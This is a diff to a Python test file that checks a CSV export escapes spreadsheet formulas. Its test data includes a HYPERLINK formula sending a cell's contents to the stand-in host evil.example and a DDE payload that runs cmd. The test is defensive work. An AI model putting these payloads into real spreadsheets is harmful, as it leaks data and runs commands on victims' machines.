@@ -10,9 +10,7 @@ from skerry.analysis.frame import csv_bytes
 ATTACK = '=HYPERLINK("http://evil.example?"&A1)'
 
 
-@pytest.mark.parametrize(
-    "text", [ATTACK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)"]
-)
+@pytest.mark.parametrize("text", [ATTACK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)"])
 def test_a_text_is_no_formula(text):
     """A plug-in's name or a label may be anything; a spreadsheet would compute it."""
     frame = pd.DataFrame({"name": [text, "two islands"], "value": [0.5, -0.5]})
